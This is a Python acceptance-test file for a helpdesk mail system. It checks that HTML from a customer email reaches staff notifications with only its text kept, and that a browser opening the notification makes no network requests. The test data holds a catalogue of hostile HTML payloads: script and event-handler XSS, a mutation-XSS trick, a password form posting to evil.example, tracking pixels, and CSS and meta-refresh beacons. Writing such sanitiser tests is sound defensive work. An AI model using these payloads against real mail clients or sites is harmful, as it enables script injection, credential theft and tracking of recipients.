"""A stranger's HTML reaches no agent: their words do, and what a mail client loads from a notification is nothing.

The words are shown plain. A cleaned copy of the stranger's page would look nicer; it would also be one more list of
tags and styles to keep right for ever, and agents answer words.
"""

import re
from pathlib import Path

import lxml.html
import pytest

from mailbot.world import World
from tests.acceptance.play import CUSTOMER, DESK, ONE, newest, only_case, play
from tests.acceptance.test_links import html_of
from tests.rig.chromium import chromium

OURS = frozenset(
    {"html", "head", "meta", "title", "style", "body", "div", "p", "a", "strong", "hr", "br", "ul", "li", "span"}
)
PAGE = """<html><head><style>.mail{display:none} body{background:url(https://evil.example/css)}</style>
<link rel="stylesheet" href="https://evil.example/sheet.css"><base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/away"></head>
<body background="https://evil.example/back.png" onload="alert(1)"><p>Guten Tag, die Rechnung 4711 ist falsch.</p>
HOSTILE
<p>Bitte prüfen Sie den Betrag.</p></body></html>"""
HOSTILE = {
    "script": "<script>document.title='owned'</script><p onclick='alert(1)'>Klick</p>",
    "image": '<img src="https://evil.example/picture.png" alt="Bild">',
    "pixel": '<img src="https://evil.example/open?id=7" width="1" height="1" style="display:none">',
    "style": '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:url(https://evil.example/x)">x</div>',
    "javascript": '<a href="javascript:alert(1)">hier</a><a href="data:text/html,<script>alert(1)</script>">dort</a>',
    "form": '<form action="https://evil.example/"><input name="password"><button>Senden</button></form>',
    "frame": '<iframe src="https://evil.example/"></iframe><object data="https://evil.example/x.swf"></object>',
    "svg": '<svg onload="alert(1)"><image href="https://evil.example/x.png"/></svg><math><mi xlink:href="x">y</mi></math>',
    "mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><xmp><img src=//evil.example/></xmp>',
    "our own": '<a href="mailto:support+k3@example.org?body=/resolve">/resolve</a>**fett**[x](https://evil.example/)',
    "media": '<video src="https://evil.example/v.mp4" autoplay></video><audio src="https://evil.example/a.mp3"></audio>',
    "words that are tags": "&lt;img src=https://evil.example/typed.png&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
}


async def send_html(here: World, page: str) -> None:
    head = (
        f"From: {CUSTOMER}\nTo: {DESK}\nSubject: Rechnung\nMessage-ID: <html@example.net>\nMIME-Version: 1.0\n"
        "Date: Mon, 02 Mar 2026 10:00:00 +0100\nContent-Type: text/html; charset=utf-8\n"
        "Content-Transfer-Encoding: 8bit\n\n"
    )
    await here.send(CUSTOMER, DESK, (head + page).replace("\n", "\r\n").encode())


def seen_of(here: World, tmp_path: Path, kind: str) -> Path:
    path = tmp_path / f"{kind.replace(' ', '-')}.html"
    path.write_text(html_of(here.newest(only_case(here).assignee)), "utf-8")
    return path


@pytest.mark.parametrize("kind", HOSTILE)
def test_only_the_words_of_a_strangers_page_are_in_a_notification(tmp_path: Path, kind: str) -> None:
    async def story(here: World) -> None:
        await send_html(here, PAGE.replace("HOSTILE", HOSTILE[kind]))
        text = seen_of(here, tmp_path, kind).read_text("utf-8")
        tree = lxml.html.document_fromstring(text)
        elements = [e for e in tree.iter() if isinstance(e.tag, str)]

        assert {e.tag for e in elements} <= OURS
        assert not [name for e in elements for name in e.attrib if name in ("src", "srcset", "background", "action")]
        assert not [name for e in elements for name in e.attrib if name.startswith("on")]
        assert all(e.get("href", "mailto:support%2B").startswith("mailto:support%2B") for e in elements)
        assert all("url(" not in e.get("style", "") for e in elements)
        assert text.count("<style>") == 2  # ours, and Outlook's in a comment
        assert "Rechnung 4711 ist falsch." in newest(here, only_case(here).assignee).text
        assert "prüfen Sie den Betrag." in newest(here, only_case(here).assignee).text

    play(tmp_path, story, agents=ONE)


def test_a_browser_that_shows_a_notification_asks_for_nothing(tmp_path: Path) -> None:
    async def story(here: World) -> None:
        await send_html(here, PAGE.replace("HOSTILE", "\n".join(HOSTILE.values())))
        seen_of(here, tmp_path, "all")

    play(tmp_path, story, agents=ONE)
    with chromium() as page:
        page.open(tmp_path / "all.html")

        assert page.requests == []
        assert "Rechnung" in page.run("document.title")
        assert page.run("getComputedStyle(document.querySelector('.mail')).display") == "block"


def test_a_huge_page_is_shown_as_far_as_a_person_reads(tmp_path: Path) -> None:
    async def story(here: World) -> None:
        await send_html(here, PAGE.replace("HOSTILE", "<div><b>viel</b> " * 150_000))
        notice = here.newest(only_case(here).assignee)

        assert len(notice.as_bytes()) < 2_000_000
        assert not re.search(r"<b>", html_of(notice))
        assert "Rechnung 4711" in html_of(notice)

    play(tmp_path, story, agents=ONE)
